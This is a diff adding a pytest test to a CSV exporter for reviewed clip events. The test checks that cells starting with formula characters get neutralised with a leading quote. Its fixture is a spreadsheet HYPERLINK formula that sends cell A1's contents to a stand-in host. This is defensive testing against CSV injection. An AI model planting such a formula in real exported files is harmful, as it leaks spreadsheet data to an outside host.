@@ -43,6 +43,18 @@ def test_csv_keeps_every_digit_and_every_character(reviewed: ReviewedClip, tmp_p
     assert (rows[0]["made_by"], rows[0]["edited_by"], rows[1]["category"]) == ("model bundled", "ann", "")
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
+def test_no_text_of_a_csv_is_a_formula(start: str, reviewed: ReviewedClip, tmp_path: Path) -> None:
+    live = f'{start}HYPERLINK("http://a.example/?"&A1,"x")'
+    first = replace(reviewed.events[0], category=live, peak_score=0.25)
+    named = replace(reviewed, clip=replace(reviewed.clip, name=live), events=(first,))
+    get_format("csv").write([named], tmp_path / "events.csv")
+    with (tmp_path / "events.csv").open(encoding="utf-8", newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert (row["clip"], row["category"], row["label"]) == (f"'{live}", f"'{live}", "")
+    assert (row["peak_score"], float(row["start_s"])) == ("0.25", first.start_s)
+
+
 @pytest.mark.parametrize(("suffix", "render"), [(".vtt", to_vtt), (".srt", to_srt)])
 def test_subtitles_open_in_a_reader_of_their_own(
     reviewed: ReviewedClip, tmp_path: Path, suffix: str, render: object
